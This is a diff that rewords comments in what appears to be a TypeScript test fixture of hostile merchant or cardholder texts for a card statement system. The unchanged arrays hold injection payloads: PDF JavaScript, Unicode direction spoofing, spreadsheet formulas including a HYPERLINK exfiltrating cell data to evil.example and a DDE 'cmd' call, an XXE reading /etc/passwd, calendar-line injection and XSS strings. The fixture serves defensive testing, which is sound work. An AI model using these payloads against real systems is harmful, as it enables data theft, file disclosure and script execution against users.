@@ -1,10 +1,10 @@
 /**
- * Names and descriptions that merchants, card holders or clients could choose. As PDF, CSV, OFX, calendar file or page,
- * each must be text and nothing else. Run as code, one that has a script would set `window.ran`.
+ * Names and descriptions that merchants, card holders or clients could choose. In a PDF, CSV, OFX, calendar file or page,
+ * each must remain plain text. If executed, a text with a script would set `window.ran`.
  */
 const RUN = 'window.ran=1';
 
-/** End a string, an object or the file of a PDF and begin an action. */
+/** Texts that close a string, an object or the file of a PDF and start an action. */
 export const PDF_SYNTAX = [
   ') Tj ET /JS (app.alert(1)) BT (',
   ')>> endobj 9 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj',
@@ -19,7 +19,7 @@ export const PDF_SYNTAX = [
   'EMC /P <</MCID 0>> BDC /Artifact BMC',
 ] as const;
 
-/** Letters that change how the text around them reads, are invisible, or have no glyph. */
+/** Characters that change the direction of the surrounding text, are invisible, or have no glyph. */
 export const ODD_LETTERS = [
   'shop\u202Efdp.exe\u202C \u2067rtl\u2069 \u061C\u200F',
   'zero\u200Bwidth\u2060\uFEFF\u00AD joined',
@@ -29,7 +29,7 @@ export const ODD_LETTERS = [
   'בית קפה مقهى \u{1F600}\u{10FFFF}',
 ] as const;
 
-/** Become a formula in a spreadsheet, at the start of a cell or of what a program takes for one. */
+/** Texts that become a formula in a spreadsheet, at the start of a cell or after a separator. */
 export const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"Statement")',
   "=cmd|'/C calc'!A0",
@@ -59,7 +59,7 @@ export const FORMULAS = [
   'a,=1+1',
 ] as const;
 
-/** End an element of a markup or a line of a calendar and begin another one. */
+/** Texts that close a markup element or a calendar line and start another one. */
 export const OTHER_FILES = [
   '</NAME></STMTTRN><STMTTRN><TRNAMT>-9999</TRNAMT><NAME>x',
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
@@ -68,7 +68,7 @@ export const OTHER_FILES = [
   'x\nATTACH:https://evil.example/\rURL:https://evil.example/',
 ] as const;
 
-/** Run as a script where a page writes them as HTML, as an address or as a template. */
+/** Texts that run as a script when a page writes them as HTML, as an address or as a template. */
 export const SCRIPTS = [
   `<img src=x onerror=${RUN}>`,
   `<script>${RUN}</script>`,
@@ -81,7 +81,7 @@ export const SCRIPTS = [
   `%3Cimg%20src=x%20onerror=${RUN}%3E`,
 ] as const;
 
-/** All of them; each fits a description of the card system (120 characters). */
+/** All hostile texts; each fits a description of the card system (120 characters). */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...PDF_SYNTAX,
   ...ODD_LETTERS,
